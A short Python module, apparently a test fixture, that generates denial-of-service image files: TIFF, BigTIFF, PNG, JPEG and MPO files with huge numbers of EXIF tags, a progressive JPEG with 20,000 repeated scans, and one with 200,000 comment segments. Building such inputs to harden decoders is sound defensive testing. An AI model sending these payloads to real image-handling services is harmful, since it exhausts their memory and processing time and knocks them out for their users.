"""Images that would fill the memory or take hours."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image

_TAGS = {256: 32, 257: 32, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 32, 279: 1024}


def tiff_tags(count: int, length: int, big: bool = False) -> bytes:
    """A TIFF of 32×32 grey pixels and `count` tags that all hold the same `length` bytes; 800,000 bytes are enough for
    65,000 such tags."""
    entry, inline = ("<HHQQ", "<Q") if big else ("<HHII", "<I")
    head = struct.pack("<2sHHHQ", b"II", 43, 8, 0, 16) if big else struct.pack("<2sHI", b"II", 42, 8)
    entries = [struct.pack(entry, tag, 4, 1, value) for tag, value in sorted(_TAGS.items())]
    entries += [struct.pack(entry, 1000 + k, 1, length - 16, 16) for k in range(count)]
    number = struct.pack("<Q" if big else "<H", len(entries))
    body = head + number + b"".join(entries) + struct.pack(inline, 0)
    return body + bytes(max(0, length - len(body)))


def png_exif(tags: bytes) -> bytes:
    """A small PNG with EXIF."""
    file = io.BytesIO()
    Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(file, "PNG")
    plain = file.getvalue()
    chunk = struct.pack(">I", len(tags)) + b"eXIf" + tags + struct.pack(">I", zlib.crc32(b"eXIf" + tags))
    return plain[:33] + chunk + plain[33:]


def jpeg_exif(tags: bytes, marker: int = 0xE1, name: bytes = b"Exif\0\0") -> bytes:
    """A small JPEG with EXIF in as many segments as it takes."""
    file = io.BytesIO()
    Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(file, "JPEG")
    parts = [tags[k : k + 65_000] for k in range(0, len(tags), 65_000)]
    segments = [bytes((0xFF, marker)) + struct.pack(">H", 2 + len(name) + len(part)) + name + part for part in parts]
    plain = file.getvalue()
    return plain[:2] + b"".join(segments) + plain[2:]


def jpeg_scans(count: int, side: int = 2000) -> bytes:
    """A progressive JPEG of one colour whose last scan, of 14 bytes, comes `count` times: each takes 6 ms to decode."""
    file = io.BytesIO()
    Image.new("RGB", (side, side), (90, 90, 90)).save(file, "JPEG", progressive=True)
    plain = file.getvalue()
    last = plain[plain.rindex(b"\xff\xda") : -2]
    return plain[:-2] + count * last + plain[-2:]


def jpeg_comments(count: int) -> bytes:
    """A JPEG with empty comments before the picture."""
    file = io.BytesIO()
    Image.new("L", (32, 32)).save(file, "JPEG")
    return file.getvalue()[:2] + count * b"\xff\xfe\0\2" + file.getvalue()[2:]


BOMBS = {
    "TIFF": ("tif", tiff_tags(60_000, 800_000)),
    "TIFF of few large tags": ("tif", tiff_tags(4_000, 800_000)),
    "BigTIFF": ("tif", tiff_tags(4_000, 800_000, big=True)),
    "PNG": ("png", png_exif(tiff_tags(4_000, 800_000))),
    "JPEG": ("jpg", jpeg_exif(tiff_tags(4_000, 800_000))),
    "MPO": ("jpg", jpeg_exif(tiff_tags(4_000, 60_000)[:65_000], 0xE2, b"MPF\0")),
    "JPEG of many scans": ("jpg", jpeg_scans(20_000)),
    "JPEG of many comments": ("jpg", jpeg_comments(200_000)),
}
